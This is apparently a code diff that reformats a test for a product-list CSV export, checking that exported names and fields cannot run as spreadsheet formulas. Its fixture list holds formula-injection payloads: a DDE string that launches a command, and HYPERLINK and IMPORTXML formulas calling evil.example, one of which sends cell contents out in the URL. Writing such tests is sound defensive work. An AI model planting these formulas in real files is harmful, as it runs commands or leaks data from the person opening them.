@@ -7,11 +7,34 @@ import { readList } from './read-list.ts'
 vi.setConfig({ testTimeout: 120_000 }) // many workbooks
 const { asPerson, given, owner } = await openDoor()
 
-const commands = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","click")', '=1+1', '+1+1', '-1+1', '@SUM(1,1)', '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")']
+const commands = [
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example","click")',
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1,1)',
+  '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
+]
 const disguises = ['', ' ', '\t', '\r\n', '\u00a0', '"', ';', '']
-const fullWidth = ['＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '=\tA1', '\t=1+1', '\r=1+1', '\n=1+1', '"=1+1"', ';=1+1', ' =1+1', '\u00a0=1+1']
+const fullWidth = [
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  '=\tA1',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '"=1+1"',
+  ';=1+1',
+  ' =1+1',
+  '\u00a0=1+1',
+]
 /** Thirty ways in which a name could become a formula. */
-const injections = [...new Set([...commands, ...fullWidth, ...disguises.flatMap((disguise) => [`${disguise}=2+5`, `${disguise}@A1`])])].slice(0, 30)
+const injections = [
+  ...new Set([...commands, ...fullWidth, ...disguises.flatMap((disguise) => [`${disguise}=2+5`, `${disguise}@A1`])]),
+].slice(0, 30)
 
 /** A spreadsheet looks at the first thing that is no space. */
 const isLive = (cell: string) => /^[\s\u00a0]*[=+\-@＝＋－＠]/.test(cell) || /^[\t\r\n]/.test(cell)
@@ -21,8 +44,16 @@ it('an exported list runs nothing in a spreadsheet, and reads back as what it wa
   const supplier = await given.supplier()
   const supplierId = supplier.companyId ?? ''
   for (const [n, injection] of injections.entries()) {
-    const { id } = await given.product({ supplierId, articleCode: `=${n}+1`, name: injection, english: `@${injection}` })
-    await owner.query('update products set facts = $2 where id = $1', [id, JSON.stringify([{ name: `+${n}`, value: injection }])])
+    const { id } = await given.product({
+      supplierId,
+      articleCode: `=${n}+1`,
+      name: injection,
+      english: `@${injection}`,
+    })
+    await owner.query('update products set facts = $2 where id = $1', [
+      id,
+      JSON.stringify([{ name: `+${n}`, value: injection }]),
+    ])
   }
   const { imports } = await asPerson(supplier)
   const csv = Buffer.from((await imports.exportList({ format: 'csv', language: 'tr' })).base64, 'base64')
